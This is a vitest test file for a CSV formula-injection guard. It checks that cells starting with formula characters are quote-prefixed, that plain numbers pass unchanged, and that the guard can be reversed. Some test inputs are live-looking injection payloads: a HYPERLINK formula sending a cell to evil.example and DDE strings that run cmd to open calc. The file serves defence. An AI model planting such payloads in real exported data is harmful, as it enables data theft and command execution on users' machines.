import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { guardFormula, needsGuard, unguardFormula } from "../../src/io/formula-guard.js";

describe("the CSV formula guard", () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"click")', `'=HYPERLINK("https://evil.example/?"&A1,"click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)", "'@SUM(1+1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["\0=1", "'\0=1"],
    ["\n=1", "'\n=1"],
    ["- a bullet list", "'- a bullet list"],
    ["-x", "'-x"],
  ])("prefixes %j with a quote", (text, cell) => {
    expect(guardFormula(text)).toBe(cell);
  });

  it.each(["Hello", "", " =not first", "1+1", "a=b", "'quoted already", "'", "café 🎉", "https://example.com", "#tag"])("leaves %j as it is", (text) => {
    expect(guardFormula(text)).toBe(text);
  });

  it.each(["-3", "+1", "-42.50", "-.5", "-5.", "+1e5", "-2E-4", "-0"])("exempts the plain number %j", (text) => {
    expect(needsGuard(text)).toBe(false);
  });

  it.each(["-1,5", "-3 ", "- 3", "-Infinity", "-NaN", "-0x10", "-1-1", "+1e", "--1"])("guards %j, which is not a plain number", (text) => {
    expect(needsGuard(text)).toBe(true);
  });

  it("gives a text that starts with quotes before a formula one quote more, so removing one is always right", () => {
    expect(guardFormula("'=x")).toBe("''=x");
    expect(guardFormula("''@x")).toBe("'''@x");
    expect(guardFormula("'-3")).toBe("'-3");
    expect(unguardFormula("''=x")).toBe("'=x");
    expect(unguardFormula("'quoted already")).toBe("'quoted already");
    expect(unguardFormula("'-3")).toBe("'-3");
  });

  it("is undone by unguardFormula for any text", () => {
    const unit = fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "\n", "\0", "1", ".", "e", "a", " ", '"');
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 8 }), (text) => {
        const cell = guardFormula(text);
        expect(unguardFormula(cell)).toBe(text);
        // A guarded cell never starts with a formula character.
        if (cell !== text) expect(cell.startsWith("'")).toBe(true);
        else expect(needsGuard(text)).toBe(false);
      }),
      { seed: 11_07, numRuns: 2000 },
    );
  });
});
